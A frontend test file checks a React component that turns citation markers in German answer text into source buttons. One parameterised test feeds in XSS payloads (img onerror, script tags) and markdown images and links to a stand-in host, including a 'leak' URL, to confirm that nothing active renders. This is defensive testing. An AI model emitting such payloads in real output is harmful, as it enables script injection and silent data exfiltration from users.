// @vitest-environment jsdom
import { render, screen } from "@testing-library/react";
import userEvent from "@testing-library/user-event";
import { beforeAll, describe, expect, it, vi } from "vitest";

import { startTexts } from "../i18n";
import AnswerText from "./answer-text";
import type { Citation } from "./stream";

const CITATION: Citation = {
  n: 1,
  document_id: "d",
  document_name: "Handbuch.pdf",
  page: 3,
  paged: true,
  heading: "Reisekosten",
  passage_id: 7,
  quote: "14 Tage",
  quotes: ["14 Tage", "Danach nicht."],
  available: true,
};

beforeAll(() => startTexts("de"));

describe("AnswerText", () => {
  it("turns a marker into a button that opens its source", async () => {
    const onCite = vi.fn();
    render(
      <AnswerText text="Innerhalb von **14 Tagen [1]**." citations={[CITATION]} onCite={onCite} />,
    );
    await userEvent.click(screen.getByRole("button", { name: "Quelle 1: Handbuch.pdf, Seite 3" }));
    expect(onCite).toHaveBeenCalledWith(CITATION);
  });

  it("leaves a marker without a source as text", () => {
    render(<AnswerText text="Falsch [9]." citations={[CITATION]} onCite={vi.fn()} />);
    expect(screen.queryByRole("button")).toBeNull();
    expect(screen.getByText("Falsch [9].")).toBeInTheDocument();
  });

  it("gives each marker the sentence behind it", async () => {
    const onCite = vi.fn();
    const text = "Innerhalb von 14 Tagen [1].\n\nDanach nicht [1].";
    render(<AnswerText text={text} citations={[CITATION]} onCite={onCite} />);
    for (const marker of screen.getAllByRole("button")) await userEvent.click(marker);
    const quotes = onCite.mock.calls.map(([citation]) => (citation as Citation).quote);
    expect(quotes).toEqual(["14 Tage", "Danach nicht."]);
  });

  it("leaves code alone, and what stands in it counts", () => {
    const citations = [{ ...CITATION, quotes: ["im Code", "danach"] }];
    const text = "```\nfeld[1]\n```\n\nDanach [1].";
    const { container } = render(<AnswerText text={text} citations={citations} onCite={vi.fn()} />);
    expect(container.querySelector("code")).toHaveTextContent("feld[1]");
    expect(screen.getAllByRole("button")).toHaveLength(1);
  });

  it("draws only the paragraph that grows, and no marker anew", () => {
    const sentences = Array.from({ length: 12 }, (_, n) => `Satz ${n} steht fest [1].`);
    const texts = sentences.map((_, n) => sentences.slice(0, n + 1).join("\n\n"));
    const onCite = vi.fn();
    const draw = (text: string) => (
      <AnswerText text={text} citations={[CITATION]} onCite={onCite} />
    );
    const { container, rerender } = render(draw(texts[0] ?? ""));
    const first = screen.getByRole("button");
    const watch = new MutationObserver(() => undefined);
    watch.observe(container, { subtree: true, childList: true, characterData: true });
    for (const text of texts.slice(1)) rerender(draw(text));
    const records = watch.takeRecords();
    expect(records.map(({ target }) => (target as Element).className)).toEqual(
      Array(11).fill("answer-text"),
    );
    expect(screen.getAllByRole("button")[0]).toBe(first);
  });

  it.each([
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/leak?d=1)",
    "[klick](https://evil.example)",
    "<script>alert(1)</script>",
    "[x]: https://evil.example\n\n![a][x]",
  ])("renders nothing active from %s", (text) => {
    const { container } = render(<AnswerText text={text} citations={[]} onCite={vi.fn()} />);
    expect(container.querySelector("a, img, script, iframe")).toBeNull();
  });
});
